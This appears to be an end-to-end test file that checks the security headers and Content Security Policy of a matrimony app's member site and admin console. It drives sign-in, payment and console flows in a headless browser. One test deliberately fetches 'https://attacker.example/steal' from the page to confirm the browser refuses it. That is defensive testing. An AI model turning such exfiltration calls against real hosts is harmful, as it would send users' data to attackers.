/**
 * The built member app and console answer with the production security headers (the policy of
 * shared/src/securityHeaders, with the local stack's origins), the browser enforces them, and the paths
 * that reach other origins still work under them: the local identity and the Convex WebSocket (sign-in,
 * /home), Razorpay Checkout (the simulator's script and calls), and the console. Any policy violation on
 * the apps' pages fails the file (sharedBrowser.ts closeBrowser), here and in every other journey.
 */
import { afterAll, describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { LOCAL_PORTS } from "@matrimony/shared/serviceUrls";
import { cspViolations, newContext, signIn, signInConsole, takeCspViolations } from "./lib/browser";
import { browser, closeBrowser, urls } from "./lib/sharedBrowser";
import { createMember } from "./lib/members";

afterAll(closeBrowser);

/** The browser's complaints about the headers themselves (e.g. a Permissions-Policy feature it does not know). */
function headerWarnings(page: Page): string[] {
  const seen: string[] = [];
  page.on("console", (m) => {
    if (/Permissions-Policy|Content Security Policy|Content-Security-Policy/i.test(m.text())) seen.push(m.text());
  });
  return seen;
}

function origin(url: string): string {
  return new URL(url).origin;
}

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(";").map((d) => {
      const [name = "", ...sources] = d.trim().split(/\s+/);
      return [name, sources];
    }),
  );
}

describe("security headers of the built apps", () => {
  it.each([
    ["member app", () => urls().web, ["/", "/home", "/user/abc", "/favicon.svg"]],
    ["console", () => urls().admin, ["/", "/favicon.svg"]],
  ] as const)("the %s sends them on pages and files alike", async (_name, base, paths) => {
    const backend = origin(urls().backend);
    for (const path of paths) {
      const res = await fetch(`${base()}${path}`);
      expect(res.status, path).toBe(200);
      expect(res.headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(res.headers.get("referrer-policy"), path).toBe("strict-origin-when-cross-origin");
      expect(res.headers.get("x-frame-options"), path).toBe("DENY");
      expect(res.headers.get("permissions-policy"), path).toMatch(/camera=\(\).*geolocation=\(\)/);
      const csp = directives(res.headers.get("content-security-policy") ?? "");
      expect(csp.get("frame-ancestors"), path).toEqual(["'none'"]);
      expect(csp.get("default-src"), path).toEqual(["'self'"]);
      expect(csp.get("object-src"), path).toEqual(["'none'"]);
      expect(csp.get("script-src") ?? [], path).not.toContain("'unsafe-inline'");
      // The local Convex backend over http and its WebSocket, and the local identity on the same port.
      expect(csp.get("connect-src"), path).toEqual(
        expect.arrayContaining(["'self'", backend, backend.replace("http", "ws")]),
      );
      // The member app also posts to the HTTP actions (/paye); the console never does.
      if (base() === urls().web) expect(csp.get("connect-src"), path).toContain(origin(urls().httpActions));
    }
    const assets = await fetch(`${base()}/`).then((r) => r.text());
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(assets)?.[1];
    expect(script).toBeDefined();
    const asset = await fetch(`${base()}${script ?? ""}`);
    expect(asset.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
  });

  it("the member app allows the Razorpay simulator's script; the console allows no payment script at all", async () => {
    const web = directives((await fetch(urls().web)).headers.get("content-security-policy") ?? "");
    const admin = directives((await fetch(urls().admin)).headers.get("content-security-policy") ?? "");
    expect(web.get("script-src")).toEqual(["'self'", origin(urls().razorpay)]);
    expect(admin.get("script-src")).toEqual(["'self'"]);
  });
});

describe("the browser enforces the policy and the apps work under it", () => {
  it("runs on ports other than npm start's, so an address written into the app or its policy would show", () => {
    const ports = [urls().backend, urls().httpActions, urls().web, urls().admin].map((url) =>
      Number(new URL(url).port),
    );
    for (const port of Object.values(LOCAL_PORTS)) expect(ports).not.toContain(port);
  });

  it("a visitor on /paye gets the payment link from the HTTP actions, with nothing refused", async () => {
    const page = await (await newContext(await browser(), "phone")).newPage();
    const warnings = headerWarnings(page);
    await page.goto(`${urls().web}/paye`);
    await page.locator("html[data-interactive]").waitFor({ state: "attached", timeout: 15_000 });
    await page.getByLabel("Your name").fill("Csp Check");
    await page.getByLabel("Mobile number").fill("9876543210");
    await page.getByRole("button", { name: "Pay 1 Rupee" }).click();
    // The link, or the page's failure (a refused request ends there).
    const ready = page.getByText("Your payment link is ready.");
    await ready
      .or(page.getByText(/Error initiating payment|Payment initiation failed/))
      .first()
      .waitFor({ timeout: 15_000 });
    expect(takeCspViolations().map((v) => `${v.directive} ${v.blocked}`)).toEqual([]);
    expect(await ready.count()).toBe(1);
    await expect
      .poll(() => page.getByRole("link", { name: "Open payment link" }).getAttribute("href"))
      .toMatch(/^http/);
    expect(warnings).toEqual([]);
    await page.context().close();
  });

  it("a member signs in, sees /home over the Convex WebSocket and opens Checkout; a script may not reach another origin", async () => {
    const member = await createMember(urls(), { tag: "csp" });
    const page = await (await newContext(await browser(), "phone")).newPage();
    const warnings = headerWarnings(page);
    await signIn(page, urls().web, member.email, member.password);
    await page
      .getByText(/matches/i)
      .first()
      .waitFor({ timeout: 20_000 });

    await page.goto(`${urls().web}/payment1`);
    await page.getByRole("button", { name: "Upgrade to Premium" }).click();
    await page.locator('[data-rzp-sim="pay"]').waitFor({ timeout: 15_000 });

    // Enforced, not only sent: a request to an origin the policy does not name is refused by the browser.
    const refused = await page.evaluate(async () => {
      const seen = new Promise<string>((resolve) =>
        document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }),
      );
      const fetched = await fetch("https://attacker.example/steal", { mode: "no-cors" }).then(
        () => "fetched",
        () => "refused",
      );
      return { fetched, directive: await seen };
    });
    expect(refused).toEqual({ fetched: "refused", directive: "connect-src" });
    // The file's watcher saw it too, and nothing else: sign-in, /home and Checkout broke no rule.
    await expect.poll(() => cspViolations().length, { timeout: 5_000 }).toBeGreaterThan(0);
    expect(takeCspViolations().map((v) => `${v.directive} ${v.blocked}`)).toEqual([
      "connect-src https://attacker.example/steal",
    ]);
    expect(warnings.filter((w) => !w.includes("attacker.example"))).toEqual([]);
    await page.context().close();
  });

  it("an admin signs into the console and sees the approval queue", async () => {
    const page = await (await newContext(await browser(), "desktop")).newPage();
    const warnings = headerWarnings(page);
    await signInConsole(page, urls().admin, "admin@matrimony.local");
    await page.goto(`${urls().admin}/#/approvals`);
    await page.locator(".RaDatagrid-table, .MuiAlert-root").first().waitFor({ timeout: 20_000 });
    expect(warnings).toEqual([]);
    await page.context().close();
  });
});
